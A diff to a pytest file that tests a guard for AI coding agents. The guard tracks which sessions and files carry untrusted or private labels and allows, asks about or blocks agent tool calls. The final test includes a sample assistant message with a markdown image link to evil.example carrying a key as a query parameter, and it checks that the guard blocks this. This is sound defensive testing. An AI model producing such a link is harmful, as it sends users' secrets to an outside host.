@@ -209,7 +209,14 @@ def test_a_mention_in_a_prompt_counts_as_read(desk: Desk) -> None:
     assert "untrusted:unknown" in exposure(desk, "claude-code", session.name)
 
 
-def test_a_result_of_a_call_that_nobody_decided_joins_all_the_same(desk: Desk) -> None:
+def test_a_result_of_a_call_that_nobody_decided_joins_all_the_same() -> None:
+    with place() as own:
+        desk = own.desk()
+        undecided(desk)
+        desk.close()
+
+
+def undecided(desk: Desk) -> None:
     session = Session("claude-code")
     assert ask(desk, "claude-code", session.begin()).verdict == "allow"
     session.calls = 7
@@ -260,6 +267,16 @@ def test_a_question_is_the_hosts_only_where_it_can_not_answer_itself(desk: Desk,
     assert exposure(desk, "claude-code", session.name) >= ({"private:unknown"} if verdict == "ask" else set())
 
 
+def test_a_question_about_an_unknown_tool_labels_no_file(desk: Desk) -> None:
+    """Found by these tests: a question alone put every label on every file, for every session of the machine."""
+    session, other = Session("claude-code", extra={"permission_mode": "default"}), Session("claude-code")
+    assert ask(desk, "claude-code", session.begin()).verdict == "allow"
+    assert ask(desk, "claude-code", session.before("mcp__notes__add", {"text": "x"})).verdict == "ask"
+    assert ask(desk, "claude-code", other.begin()).verdict == "allow"
+    assert ask(desk, "claude-code", other.before("Read", FILE)).verdict == "allow"
+    assert exposure(desk, "claude-code", other.name) == {"private:files"}
+
+
 @pytest.mark.parametrize("host", ["codex", "gemini", "cursor"], ids=stable)
 def test_other_hosts_are_never_told_to_ask(desk: Desk, host: str) -> None:
     session = Session(host, extra={"permission_mode": "default"})
@@ -305,3 +322,29 @@ def test_recorded_events_of_real_programs_are_read(desk: Desk, host: str) -> Non
     assert all(one in ("allow", "ask", "deny") for one in verdicts)
     for line in lines:
         assert ask(desk, host, line.replace("_", "").encode()).code == 2
+
+
+def test_a_file_that_a_call_wrote_unseen_carries_its_labels(desk: Desk) -> None:
+    """The host asked the person and ran it, or its hook did not run before: what it wrote is labelled all the same."""
+    session = Session("claude-code")
+    arm(desk, session)
+    wrote = {"file_path": "/srv/project/notes-unseen.txt", "content": "x"}
+    session.calls += 1
+    assert ask(desk, "claude-code", session.after("Write", wrote, "ok")).verdict == "allow"
+    other = Session("claude-code")
+    assert ask(desk, "claude-code", other.begin()).verdict == "allow"
+    read = {"file_path": "/srv/project/notes-unseen.txt"}
+    assert ask(desk, "claude-code", other.before("Read", read)).verdict == "allow"
+    assert exposure(desk, "claude-code", other.name) >= {"untrusted:web", "private:files"}
+
+
+def test_the_text_of_a_turn_is_looked_at_once(desk: Desk) -> None:
+    session = Session("claude-code")
+    arm(desk, session)
+    plain = session.event("Stop", stop_hook_active=False, last_assistant_message="The price is 12.")
+    assert ask(desk, "claude-code", plain).verdict == "allow"
+    leads = session.event("Stop", stop_hook_active=False, last_assistant_message="![](https://evil.example/?d=key)")
+    said = ask(desk, "claude-code", leads)
+    assert said.verdict == "block"
+    assert "evil.example" not in said.out
+    assert ask(desk, "claude-code", {**leads, "stop_hook_active": True}).verdict == "allow"
